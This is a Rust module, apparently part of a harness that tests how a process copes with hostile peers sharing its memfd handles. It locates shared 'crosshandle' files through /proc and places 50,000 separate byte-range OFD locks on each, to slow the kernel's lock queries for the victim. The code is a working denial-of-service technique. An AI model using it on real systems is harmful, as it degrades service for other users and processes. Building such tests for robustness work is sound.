//! Processes with handles that lock the files they received, byte by byte.

use super::{Report, Stop, Victim};
use crate::failure::Failure;
use std::fs::{self, File};
use std::io;
use std::os::fd::AsRawFd;
use std::time::Duration;

/// Number of locks on each file. No two locks are adjacent, so that the kernel cannot merge them.
const LOCKS: i64 = 50_000;
/// Number of locks after which the attack is treated as begun.
const FIRST: i64 = 5_000;
/// Pause between two rounds.
const PAUSE: Duration = Duration::from_millis(10);

/// Keeps a very large number of record locks. The kernel must walk all of them for each query of a
/// lock.
pub(super) fn record_locks(victim: &Victim, stop: &Stop) -> Result<Report, Failure> {
    let opened = victim.open()?;
    let files = shared_files()?;
    if files.is_empty() {
        return Err(Failure::new("no descriptor of a shared file can be opened"));
    }
    let mut report = Report::default();
    // Locks from the end of the file, so that the kernel's list is long even for queries about
    // the beginning.
    for offset in (0..LOCKS).rev() {
        for file in &files {
            report.attempts += 1;
            report.landed += u64::from(lock(file, 2 * offset).is_ok());
        }
        if stop.is_stopped() {
            return Ok(report);
        }
        // The kernel walks the list for each new lock too, so taking all locks takes minutes.
        if LOCKS - offset >= FIRST {
            stop.begun();
        }
    }
    while !stop.pause(PAUSE) {}
    drop(opened);
    Ok(report)
}

/// Locks one byte for this open file description. The lock is exclusive if the file is writable.
fn lock(file: &File, offset: i64) -> io::Result<()> {
    let mut result = Ok(());
    for kind in [libc::F_WRLCK, libc::F_RDLCK] {
        let lock = libc::flock {
            l_type: kind as libc::c_short,
            l_whence: libc::SEEK_SET as libc::c_short,
            l_start: offset,
            l_len: 1,
            l_pid: 0,
        };
        // SAFETY: the descriptor is open, and the kernel only reads the structure.
        let status = unsafe { libc::fcntl(file.as_raw_fd(), libc::F_OFD_SETLK, &raw const lock) };
        if status == 0 {
            return Ok(());
        }
        result = Err(io::Error::last_os_error());
    }
    result
}

/// Opens the shared files of which any thread of this process has a descriptor. The result is
/// writable if the system permits it.
fn shared_files() -> io::Result<Vec<File>> {
    let (mut files, mut known) = (Vec::new(), Vec::new());
    for task in fs::read_dir("/proc/self/task")?.flatten() {
        let Ok(entries) = fs::read_dir(task.path().join("fd")) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let Ok(target) = fs::read_link(&path) else {
                continue;
            };
            if !target.to_string_lossy().contains("memfd:crosshandle") {
                continue;
            }
            let Ok(file) = File::options()
                .read(true)
                .write(true)
                .open(&path)
                .or_else(|_| File::open(&path))
            else {
                continue;
            };
            let number = std::os::unix::fs::MetadataExt::ino(&file.metadata()?);
            if !known.contains(&number) {
                known.push(number);
                files.push(file);
            }
        }
    }
    Ok(files)
}
